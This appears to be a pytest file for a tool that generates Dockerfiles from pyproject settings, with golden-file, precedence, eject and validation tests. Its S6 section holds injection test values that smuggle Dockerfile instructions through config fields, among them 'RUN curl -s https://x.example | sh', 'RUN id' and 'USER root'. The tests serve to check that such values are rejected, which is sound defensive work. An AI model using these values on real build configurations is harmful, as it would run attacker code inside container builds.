"""Container defaults: golden Dockerfiles (hadolint-clean), precedence, eject, bad tables.

Regenerate the golden files after an intended change, then review the diff:
    MLREPO_UPDATE_GOLDENS=1 python -m pytest tests/test_container.py
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import pytest
from helpers import copier_copy, run

GOLDEN = Path(__file__).parent / "golden"
TABLES = {
    "defaults": "",
    "service": 'port = 8000\nhealthcheck = ["python", "-c", "import churn_model"]\n'
    'env = { MODEL_DIR = "/app/artifacts", LOG_LEVEL = "info" }\n'
    'cmd = ["predict", "schemas/samples/churn.csv"]\nexclude = ["*.parquet"]\n',
    "pinned": 'base-image = "python:3.12-slim-bookworm"\n'
    'base-image-digest = "sha256:' + "0" * 63 + '1"\npython = "3.12"\n'
    'system-packages = ["libgomp1", "tini=0.19.0-1"]\nuser-uid = 20001\n'
    'entrypoint = ["tini", "--", "python", "-m", "churn_model"]\n',
}


@pytest.fixture(scope="module")
def generated(template_src, tmp_path_factory) -> Path:
    return copier_copy(template_src, tmp_path_factory.mktemp("ct") / "repo", {})


@pytest.fixture
def repo(generated, tmp_path) -> Path:
    dest = tmp_path / "repo"
    shutil.copytree(generated, dest)
    return dest


def with_table(repo: Path, body: str) -> Path:
    pyproject = repo / "pyproject.toml"
    text = pyproject.read_text()
    head = text.split("[tool.mlrepo.container]")[0]
    pyproject.write_text(head + "[tool.mlrepo.container]\n" + body)
    return repo


def container(repo: Path, *args: str, env=None):
    return run([sys.executable, "-m", "mlrepo", "container", *args], cwd=repo, env=env)


def _dockerfile(show_output: str) -> str:
    return show_output.split("# ---- Dockerfile ----\n", 1)[1].split("# ---- .dockerignore ----")[0]


@pytest.mark.parametrize("name", sorted(TABLES))
def test_generated_dockerfile_matches_its_golden_file_and_hadolint_is_clean(repo, name):
    result = container(with_table(repo, TABLES[name]), "show")
    assert result.returncode == 0, result.stderr
    dockerfile = _dockerfile(result.stdout)
    golden = GOLDEN / f"{name}.Dockerfile"
    if os.environ.get("MLREPO_UPDATE_GOLDENS"):
        golden.write_text(dockerfile)
    assert dockerfile == golden.read_text(), f"regenerate and review: see {__doc__}"
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    lint = run([hadolint, "--no-color", str(golden)])
    assert lint.returncode == 0 and lint.stdout == "", lint.stdout + lint.stderr


def test_without_a_lock_the_image_installs_the_declared_dependencies_with_pip(repo):
    (repo / "uv.lock").unlink()
    dockerfile = _dockerfile(container(repo, "show").stdout)
    assert "uv.lock" not in dockerfile and "uv sync" not in dockerfile
    assert 'pip install --no-cache-dir "mlflow-skinny>=3.1" "pandas>=2.2"' in dockerfile


def test_the_default_dockerfile_has_the_properties_we_promise(repo):
    dockerfile = _dockerfile(container(repo, "show").stdout)
    lines = dockerfile.splitlines()
    assert sum(line.startswith("FROM ") for line in lines) == 2  # multi-stage
    lock = lines.index("COPY pyproject.toml uv.lock ./")
    deps = next(i for i, line in enumerate(lines) if "--no-install-project" in line)
    code = next(i for i, line in enumerate(lines) if line.startswith("COPY src/"))
    assert lock < deps < code  # a code change does not reinstall dependencies
    assert "USER 10001:10001" in lines
    assert any(line.startswith('ENTRYPOINT ["') for line in lines)  # exec form
    assert "org.opencontainers.image.title" in dockerfile
    assert "curl" not in dockerfile and "wget" not in dockerfile and "ADD " not in dockerfile
    assert not any(line.startswith("# syntax=") for line in lines)  # no frontend image pull
    owned = next(i for i, line in enumerate(lines) if "install -d -o 10001 -g 10001 /app " in line)
    assert owned < lines.index("WORKDIR /app")  # docker would create WORKDIR as root
    ignore = container(repo, "show").stdout.split("# ---- .dockerignore ----\n", 1)[1]
    for pattern in ("data/", ".git", ".venv", ".env", "**/.ipynb_checkpoints", "*.pem"):
        assert pattern in ignore.splitlines(), pattern


def test_precedence_and_the_warning_when_a_table_is_ignored(repo, tmp_path):
    assert container(repo, "show").stdout.startswith("# Source: [tool.mlrepo.container]")
    with_table(repo, "port = 9000\n")
    (repo / "Containerfile").write_text("FROM python:3.11-slim-bookworm\nUSER 1000\n")
    shown = container(repo, "show")
    assert shown.stdout.startswith("# Source: ./Containerfile")
    assert "[tool.mlrepo.container] in pyproject.toml is IGNORED" in shown.stderr
    (repo / "Dockerfile").write_text("FROM python:3.12-slim-bookworm\nUSER 1000\n")
    assert container(repo, "show").stdout.startswith("# Source: ./Dockerfile")
    own = tmp_path / "Special.Dockerfile"
    own.write_text("FROM python:3.13-slim-bookworm\nUSER 1000\n")
    assert container(repo, "show", "--dockerfile", str(own)).stdout.startswith(
        "# Source: --dockerfile"
    )
    (repo / "pyproject.toml").write_text('[project]\nname = "x"\n')
    for name in ("Dockerfile", "Containerfile"):
        (repo / name).unlink()
    assert container(repo, "show").stdout.startswith("# Source: built-in defaults")


def test_eject_hands_over_and_refuses_to_overwrite(repo):
    shown = _dockerfile(container(repo, "show").stdout)
    assert container(repo, "eject").returncode == 0
    assert (repo / "Dockerfile").read_text() == shown
    assert (repo / ".dockerignore").is_file()
    again = container(repo, "eject")
    assert again.returncode == 2 and "pass --force" in again.stderr
    assert container(repo, "show").stdout.startswith("# Source: ./Dockerfile")
    assert container(repo, "show").stderr == ""  # ejected and unchanged: nothing to warn about
    with_table(repo, 'python = "3.11"\nport = 8080\n')
    assert "changed after ./Dockerfile was ejected" in container(repo, "show").stderr
    assert container(repo, "eject", "--force").returncode == 0
    assert "EXPOSE 8080" in (repo / "Dockerfile").read_text()


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("colour = 'blue'\n", "unknown key 'colour'"),
        ("port = 70000\n", "'port' must be a whole number from 1 to 65535"),
        ("port = true\n", "'port' must be a whole number"),
        ('base-image-digest = "sha256:abc"\n', "must look like sha256:<64 hex digits>"),
        (
            'base-image = "python@sha256:'
            + "a" * 64
            + '"\nbase-image-digest = "sha256:'
            + "b" * 64
            + '"\n',
            "conflicts with the digest already in base-image",
        ),
        (
            'entrypoint = "python -m churn_model"\n',
            "'entrypoint' must be a list of non-empty strings",
        ),
        ('env = { "1BAD" = "x" }\n', "invalid variable name"),
        ('python = "three"\n', "'python' must be a version like 3.11"),
        ("user-uid = 0\n", "'user-uid' must be a whole number from 1"),
    ],
    ids=[
        "unknown",
        "port-range",
        "port-bool",
        "digest",
        "digest-conflict",
        "shell-entrypoint",
        "env-name",
        "python",
        "root-uid",
    ],
)
def test_malformed_tables_are_one_line_errors_with_the_line(repo, body, message):
    with_table(repo, body)
    result = container(repo, "show")
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert message in result.stderr and result.stderr.startswith("mlrepo: error: pyproject.toml:")


def test_build_without_any_engine_is_a_one_line_error(repo, tmp_path):
    empty = tmp_path / "empty-path"
    empty.mkdir()
    result = container(repo, "build", env={**os.environ, "PATH": str(empty)})
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == [
        "mlrepo: error: no container engine found (podman, buildah, docker): install one, or "
        "`mlrepo container eject` and build the Dockerfile elsewhere"
    ]


def test_an_ejected_header_is_recognised_with_or_without_an_old_syntax_line():
    from mlrepo.container.dockerfile import ejected_hash

    header = "# Generated by mlrepo 0.1.0 from [tool.mlrepo.container] (inputs 0123456789ab).\n"
    assert ejected_hash(header + "FROM x\n") == "0123456789ab"
    assert ejected_hash("# syntax=docker/dockerfile:1\n" + header) == "0123456789ab"
    assert ejected_hash("FROM x\n" + "RUN true\n" + header) is None


# S6: each value reached the Dockerfile raw; a newline or ';' started an instruction or a command.
INJECTIONS = [
    ("base-newline", 'base-image = "python:3.11-slim\\nRUN curl -s https://x.example | sh\\n#"',
     "'base-image' must be an image reference"),
    ("base-space", 'base-image = "python:3.11 AS x"', "'base-image' must be an image reference"),
    ("package-semicolon", 'system-packages = ["curl; echo INJECTED"]',
     "'system-packages' has 'curl; echo INJECTED'"),
    ("package-newline", 'system-packages = ["curl\\nRUN id"]', "not a Debian package name"),
    ("package-name", 'package = "x\\nRUN id"', "'package' must be an importable package name"),
    ("env-newline", 'env = { A = "a\\nRUN\\tid" }', "'env' values must not hold control"),
    ("exclude-newline", 'exclude = ["*.csv\\n!secrets"]', "'exclude' must not hold control"),
    ("cmd-newline", 'cmd = ["run\\nUSER root"]', "'cmd' must not hold control"),
    ("tool-a-number", None, "must be a table"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("body", "message"), [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS]
)
def test_s6_no_table_value_can_start_a_dockerfile_instruction(repo, body, message):
    if body is None:
        (repo / "pyproject.toml").write_text("tool = 5\n")
    else:
        with_table(repo, body + "\n")
    for verb in ("show", "eject"):
        result = container(repo, verb)
        assert result.returncode == 2, result.stdout + result.stderr
        assert result.stdout == "" and "Traceback" not in result.stderr
        assert len(result.stderr.splitlines()) == 1 and message in result.stderr, result.stderr
    assert not (repo / "Dockerfile").exists() and not (repo / ".dockerignore").exists()


def test_env_values_are_quoted_so_a_trailing_backslash_joins_nothing(repo):
    """`ENV A=x\\` then a newline made the next instruction (USER) part of ENV: the image ran as
    root. Values that are not plain are written quoted, and every instruction stays."""
    with_table(repo, 'env = { A = "x\\\\", B = "say \\"hi\\"", C = "plain/value:1" }\n')
    result = container(repo, "show")
    assert result.returncode == 0, result.stderr
    dockerfile = _dockerfile(result.stdout)
    env_line = next(line for line in dockerfile.splitlines() if line.startswith("ENV PATH"))
    assert env_line.endswith('A="x\\\\" B="say \\"hi\\"" C=plain/value:1')
    assert any(line.startswith("USER ") for line in dockerfile.splitlines())
